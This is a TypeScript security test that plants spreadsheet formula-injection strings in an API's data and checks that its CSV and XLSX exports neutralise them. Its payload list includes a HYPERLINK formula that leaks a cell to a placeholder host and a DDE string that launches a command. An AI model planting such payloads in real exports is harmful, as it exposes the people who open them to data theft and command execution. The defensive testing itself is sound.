// Spreadsheet formula injection (CWE-1236): text a user typed that begins with = + - @, a tab or a
// carriage return would run as a formula when an export is opened. Hostile texts are planted where
// users type them (a flow point's name, a count's localities), then every CSV and XLSX export of the
// OpenAPI document is downloaded, parsed back, and no text cell may start with such a character.
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PERMISSIONS } from '@taama/core';
import { bearer, createHarness, type Harness } from '../harness';
import { spreadsheetCells } from './answers';
import { routeKey, routesOf, type OpenApiDoc, type RouteInfo } from './routes';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+SUM(1+1)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const DANGEROUS_START = /^[=+\-@\t\r]/;
// A plain number (negative, or with a sign) is data, not a formula.
const NUMBER = /^[+-]?\d+([.,]\d+)?$/;

let h: Harness;
let token: string;
let routes: RouteInfo[];
let pointId: string;

beforeAll(async () => {
  h = await createHarness();
  token = (await h.userWith({ permissions: [...PERMISSIONS], scope: 'all', maxSensitivity: 'sensitive' })).token;
  routes = routesOf((await h.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json() as OpenApiDoc);
  pointId = `SEC-FMP-${Date.now().toString(36).toUpperCase()}`;
  const point = await h.app.inject({
    method: 'POST',
    url: '/api/v1/flows/points',
    headers: bearer(token),
    payload: { id: pointId, name: HOSTILE[0], countryIso3: 'MLI', fmpType: 'bus_station', activePeriods: [{ from: '2018-01-01', to: null }] },
  });
  expect(point.statusCode, point.body).toBe(201);
});
afterAll(() => h.close());

/** Text cells of an answer that a spreadsheet would run. */
async function dangerousCells(route: RouteInfo, body: Buffer, contentType: string): Promise<string[]> {
  let cells: string[];
  if (contentType.includes('spreadsheetml')) cells = await spreadsheetCells(body);
  else {
    const parsed = Papa.parse<string[]>(body.toString('utf8'), { skipEmptyLines: true });
    cells = parsed.data.flat();
  }
  return cells.filter((c) => DANGEROUS_START.test(c) && !NUMBER.test(c.trim())).map((c) => `${routeKey(route)}: ${JSON.stringify(c.slice(0, 60))}`);
}

describe('formula injection in exports', () => {
  it('no CSV or XLSX export has a text cell that starts a formula', async () => {
    const exports = routes.filter((r) => r.method === 'GET' && /\.(csv|xlsx)$/.test(r.path) && !r.path.includes('{'));
    expect(exports.length).toBeGreaterThanOrEqual(6);
    const problems: string[] = [];
    let checked = 0;
    for (const route of exports) {
      const query = route.params.some((p) => p.name === 'period') ? '?period=2021Q4' : route.params.some((p) => p.name === 'fmpId') ? `?fmpId=${pointId}` : '';
      for (const url of [route.path + query, route.path]) {
        const res = await h.app.inject({ method: 'GET', url, headers: bearer(token) });
        if (res.statusCode !== 200) continue;
        checked++;
        problems.push(...(await dangerousCells(route, res.rawPayload, String(res.headers['content-type']))));
      }
    }
    expect(checked).toBeGreaterThanOrEqual(exports.length);
    expect(problems).toEqual([]);
  });

  it('the neutralising rule the exports share covers every dangerous start', async () => {
    const { neutralise } = await import('../../src/modules/flows/export.service');
    for (const c of ['=1+1', '+1', '@x', '\t=1', '\r=1', '-1+1', ...HOSTILE]) expect(DANGEROUS_START.test(neutralise(c)), c).toBe(false);
  });
});
